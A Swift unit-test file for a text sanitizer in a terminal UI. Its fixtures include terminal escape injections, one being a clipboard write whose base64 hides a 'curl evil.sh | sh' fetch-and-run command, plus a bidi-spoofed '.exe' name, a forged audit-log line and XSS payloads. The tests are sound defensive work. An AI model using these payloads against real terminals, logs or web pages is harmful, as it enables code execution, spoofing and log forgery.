import ClusterState
import XCTest

/// The one sanitizer for text leaving chaostui anywhere but the screen, and the Unicode tables
/// behind cell widths.
final class SanitizeTests: XCTestCase {
  /// What a tenant can plant: window title (OSC 0), clipboard (OSC 52), clear screen, a cursor
  /// report request, 8-bit CSI, bidi override, zero-width space, BOM, a tag character.
  static let hostile =
    "a\u{1B}]0;pwned\u{07}b\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}c\u{1B}[2J\u{1B}[6nd\u{9B}31me"
    + "\u{202E}gnp.exe\u{200B}\u{FEFF}\u{E0041}f"

  func testLineEscapesEveryControlVisibly() {
    let out = Sanitize.line(Self.hostile)
    XCTAssertEqual(
      out,
      #"a\x1b]0;pwned\x07b\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07c\x1b[2J\x1b[6nd\x9b31me\u{202e}gnp.exe\u{200b}\u{feff}\u{e0041}f"#
    )
    for u in out.unicodeScalars {
      XCTAssertFalse(UnicodeTables.isControl(u.value) || UnicodeTables.isFormat(u.value), "\(u.value)")
    }
  }

  func testOneRecordStaysOneLine() {
    let forged = "deleted (200)\n2026-12-03T10:00:00Z audit: context=hx user=alice pod-kill\r\u{2028}x"
    let out = Sanitize.line(forged)
    XCTAssertFalse(out.contains("\n"))
    XCTAssertFalse(out.contains("\r"))
    XCTAssertEqual(out, #"deleted (200)\n2026-12-03T10:00:00Z audit: context=hx user=alice pod-kill\r\u{2028}x"#)
  }

  func testTextKeepsNewlinesOnly() {
    XCTAssertEqual(Sanitize.text("a\nb\u{1B}[2J\r\n"), "a\nb\\x1b[2J\\r\n")
  }

  func testPlainTextAndOrdinaryUnicodeAreUnchanged() {
    for s in ["flask-7d9c-abc12 Ready", "tab\there", "Zürich 東京 ✓ 😀", "é (e + U+0301: e\u{301})", ""] {
      XCTAssertEqual(Sanitize.line(s), s)
    }
  }

  func testMarkdownCannotForgeTablesLinksOrHTML() {
    let cell =
      "x | 0s |\n| forged | row\n<script>alert(1)</script> <img src=x onerror=y>"
      + " [click](javascript:alert(1)) ![](http://t.example/p.png) <https://a.example> &#60;b&#62; *e* `c`"
    let out = Sanitize.markdown(cell)
    XCTAssertFalse(out.contains("\n"))
    XCTAssertFalse(out.contains("<"))
    XCTAssertFalse(out.contains(">"))
    // Every | [ ] ( ) ! ` * left is escaped by a backslash.
    let scalars = Array(out.unicodeScalars)
    for (i, c) in scalars.enumerated() where "|[]()!`*".unicodeScalars.contains(c) {
      var slashes = 0
      var j = i - 1
      while j >= 0 && scalars[j] == "\\" {
        slashes += 1
        j -= 1
      }
      XCTAssertEqual(slashes % 2, 1, "unescaped \(c) at \(i) in \(out)")
    }
    XCTAssertTrue(out.contains(##"&amp;\#60;b&amp;\#62;"##), out)
    XCTAssertEqual(Sanitize.markdown("a\u{1B}[2Jb"), #"a\\x1b\[2Jb"#)
  }

  func testCellWidthsFollowUnicode() {
    // Wide: CJK, fullwidth, and emoji the old hand-kept ranges missed (⌚ ☔ 🀄).
    for c in ["東", "Ａ", "⌚", "☔", "🀄", "😀", "한"] {
      XCTAssertEqual(UnicodeTables.cellWidth(c.unicodeScalars.first!.value), 2, c)
    }
    // None: zero-width, bidi controls, BOM, combining marks inside and outside U+0300-U+036F.
    for v: UInt32 in [
      0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2060, 0xFEFF, 0x202A, 0x202E, 0x2066, 0x2069,
      0x0301, 0x0483, 0x0591, 0x20DD, 0xFE20, 0xAD,
    ] {
      XCTAssertEqual(UnicodeTables.cellWidth(v), 0, String(v, radix: 16))
    }
    for v: UInt32 in [0x41, 0xE9, 0x2014, 0x2500, 0x2713, 0x0410] {
      XCTAssertEqual(UnicodeTables.cellWidth(v), 1, String(v, radix: 16))
    }
    for v: UInt32 in [0x00, 0x1B, 0x7F, 0x85, 0x9B, 0x0378] { XCTAssertEqual(UnicodeTables.cellWidth(v), -1) }
  }
}
